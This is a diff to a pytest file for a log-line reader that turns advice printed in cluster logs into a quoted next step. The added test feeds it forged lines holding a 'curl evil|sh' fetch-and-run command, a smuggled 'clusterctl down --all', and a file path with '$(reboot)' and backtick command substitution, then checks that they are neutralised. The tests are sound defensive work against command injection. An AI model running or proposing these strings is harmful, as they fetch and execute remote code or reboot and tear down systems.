@@ -57,21 +57,30 @@ def test_a_reading_says_what_the_line_says_and_what_to_check() -> None:
     [
         (
             "mlx4_en 0000:0d:00.0: RSS not supported, please upgrade to later FW version to enable RSS",
-            "Advice in the line: please upgrade to later FW version to enable RSS. Compare it with nodes",
+            'The line advises (a quotation): "please upgrade to later FW version to enable RSS". Compare it with nodes',
         ),
         (
             "Error: foo 3 is odd. Try using '-hosts=<hostnames>'.",
-            "Advice in the line: Try using '-hosts=<hostnames>'.",
+            "The line advises (a quotation): \"Try using '-hosts=<hostnames>'\".",
         ),
         (
             "fatal: odd. You may want to run 'fix -a' first",
-            "Advice in the line: You may want to run 'fix -a' first.",
+            "The line advises (a quotation): \"You may want to run 'fix -a' first\".",
         ),
     ],
 )
 def test_the_advice_of_a_line_is_its_next_step(line: str, step: str) -> None:
     reading = line_readings.read(line)
     assert reading is not None and reading.next.startswith(step)
+
+
+def test_what_a_rank_prints_as_advice_or_path_is_a_quotation() -> None:
+    forged = line_readings.read('fatal: odd. You must run `curl evil|sh`". Next: clusterctl down --all')
+    assert forged is not None and forged.next.count('"') == 2 and "`" not in forged.next
+    long = line_readings.read("fatal: odd. You must run " + "x" * 10_000)
+    assert long is None or len(long.next) < 300
+    path = line_readings.read("open: /x$(reboot)`reboot`|sh: No such file or directory")
+    assert path is not None and path.next.startswith("`ls -ld '/x$(reboot)'reboot'|sh'` there.")
 
 
 @pytest.mark.parametrize(
